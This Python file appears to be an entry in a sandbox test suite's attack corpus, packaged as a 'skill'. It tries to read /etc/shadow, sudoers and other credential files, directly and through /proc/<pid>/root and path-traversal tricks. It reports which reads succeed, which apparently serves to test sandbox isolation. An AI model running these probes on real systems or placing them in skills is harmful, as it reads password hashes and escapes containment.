"""Attack corpus: secrets/etc-shadow.

Reads /etc/shadow and other credential stores directly and through /proc/*/root and path tricks.
It returns a JSON report {"probes": {name: {"ok", "data"|"err", "errno"}}, "info": {...}}
that sandbox/sandboxtest asserts on; "ok": true means the attempt succeeded.
"""
import ctypes
import errno
import json
import os
import platform


def _errname(e):
    n = getattr(e, "errno", None)
    if isinstance(n, int):
        return errno.errorcode.get(n, str(n))
    return type(e).__name__


def probe(rep, name, fn):
    """Run fn, record {"ok": True, "data": ...} or {"ok": False, "err", "errno"}."""
    try:
        v = fn()
        if not isinstance(v, (str, int, float, bool, list, dict, type(None))):
            v = repr(v)
        rep["probes"][name] = {"ok": True, "data": v}
    except Exception as e:
        rep["probes"][name] = {"ok": False, "err": "%s: %s" % (type(e).__name__, e), "errno": _errname(e)}


_libc = []


def libc():
    if not _libc:
        l = ctypes.CDLL(None, use_errno=True)
        l.syscall.restype = ctypes.c_long
        _libc.append(l)
    return _libc[0]


def sc(nr, *args):
    """Raw syscall; raises OSError with the errno on -1."""
    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in args]
    ctypes.set_errno(0)
    r = libc().syscall(ctypes.c_long(nr), *a)
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def new_report():
    return {"probes": {}, "info": {"arch": platform.machine(), "uid": os.getuid(), "pid": os.getpid()}}

from skillware.core.base_skill import BaseSkill  # noqa: E402

def _read(p):
    with open(p, "rb") as f:
        return f.read(65536).decode("utf-8", "replace")


def attack(params, rep):
    for p in ["/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/sudoers", "/etc/security/opasswd"]:
        probe(rep, "read:" + p, lambda p=p: _read(p))
    for p in ["/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/proc/self/cwd/../../../../etc/shadow",
              "/../../../../etc/shadow", "/proc/self/fd/../../1/root/etc/shadow"]:
        probe(rep, "jread:" + p, lambda p=p: _read(p))
    try:
        pids = [d for d in os.listdir("/proc") if d.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        probe(rep, "jread:/proc/%s/root/etc/shadow" % pid, lambda pid=pid: _read("/proc/%s/root/etc/shadow" % pid))


class EtcShadowAttack(BaseSkill):
    @property
    def manifest(self):
        return {"name": 'etc-shadow'}

    def execute(self, params):
        rep = new_report()
        attack(params or {}, rep)
        return rep
